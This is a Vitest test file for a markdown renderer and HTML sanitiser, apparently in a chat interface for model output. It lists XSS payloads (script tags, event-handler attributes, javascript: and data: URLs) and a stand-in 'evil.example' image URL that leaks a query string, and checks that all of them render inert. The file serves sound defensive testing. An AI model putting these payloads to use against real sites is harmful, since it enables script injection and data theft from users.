// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown, sanitizeHtml } from '../../src/lib/markdown';

/** Parses rendered HTML into a detached container to inspect it like a browser would. */
function dom(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

function assertInert(root: HTMLElement) {
  expect(
    root.querySelectorAll('script, iframe, svg, img, object, embed, style, form')
  ).toHaveLength(0);
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      expect(attr.name.startsWith('on'), `${el.tagName} has ${attr.name}`).toBe(false);
      expect(attr.value.trim().toLowerCase().startsWith('javascript:')).toBe(false);
    }
  }
}

describe('markdown XSS', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '<svg onload=alert(1)><circle r=1/></svg>',
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '![x](javascript:alert(1))',
    '<iframe src="https://evil.example"></iframe>',
    '```html\n<script>alert(1)</script>\n```',
    '<details open ontoggle=alert(1)>',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'
  ];

  for (const payload of payloads) {
    it(`renders inert: ${payload.slice(0, 40)}`, () => {
      const html = renderMarkdown(payload);
      assertInert(dom(html));
      expect(html).not.toMatch(/<script/i);
    });
  }

  it('the DOMPurify layer alone strips script even if markdown-it let HTML through', () => {
    const root = dom(
      sanitizeHtml(
        '<p onclick="x()">hi</p><script>alert(1)</script><img src=x onerror=alert(1)>' +
          '<svg onload=alert(1)></svg><a href="javascript:alert(1)">a</a><a href="https://ok.example">b</a>'
      )
    );
    assertInert(root);
    expect(root.querySelector('p')?.textContent).toBe('hi');
    const links = root.querySelectorAll('a');
    expect(links[0].hasAttribute('href')).toBe(false);
    expect(links[1].getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('shows raw HTML in model output as text, not markup', () => {
    const root = dom(renderMarkdown('Hello <b>bold</b> <script>alert(1)</script>'));
    expect(root.querySelector('b')).toBeNull();
    expect(root.textContent).toContain('<b>bold</b>');
    expect(root.textContent).toContain('<script>alert(1)</script>');
  });

  it('turns images into links so nothing is fetched', () => {
    const root = dom(renderMarkdown('![tracker](https://evil.example/leak?q=secret)'));
    expect(root.querySelector('img')).toBeNull();
    expect(root.querySelector('a')?.getAttribute('href')).toBe(
      'https://evil.example/leak?q=secret'
    );
  });
});

describe('markdown rendering', () => {
  it('opens links in a new tab without an opener', () => {
    const a = dom(
      renderMarkdown('see [docs](https://example.com) and https://hearth.dev')
    ).querySelectorAll('a');
    expect(a).toHaveLength(2);
    for (const link of a) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('highlights fenced code with a language label and a copy button', () => {
    const code = 'def f(x):\n    return x < 1 and "<b>"\n';
    const root = dom(renderMarkdown('```python\n' + code + '```', { copyLabel: '复制' }));
    expect(root.querySelector('.code-lang')?.textContent).toBe('python');
    expect(root.querySelector('button[data-copy-code]')?.textContent).toBe('复制');
    const el = root.querySelector('pre code')!;
    expect(el.querySelector('.hljs-keyword')).not.toBeNull();
    // The copy button copies textContent: it must be exactly the raw code.
    expect(el.textContent).toBe(code);
  });

  it('renders unknown languages as escaped plain code', () => {
    const root = dom(renderMarkdown('```brainfuck\n<>+-.\n```'));
    expect(root.querySelector('pre code')?.textContent).toBe('<>+-.\n');
  });

  it('renders a fence that is still streaming (unclosed) as code', () => {
    const root = dom(renderMarkdown('Here:\n\n```js\nconst a = 1;\nconst b'));
    expect(root.querySelector('pre code')?.textContent).toBe('const a = 1;\nconst b');
    expect(root.querySelector('p')?.textContent).toBe('Here:');
  });

  it('keeps CJK text and tables', () => {
    const root = dom(renderMarkdown('| 科室 | 人数 |\n|---|---|\n| 内科 | 3 |'));
    expect(root.querySelector('table td')?.textContent).toBe('内科');
  });
});
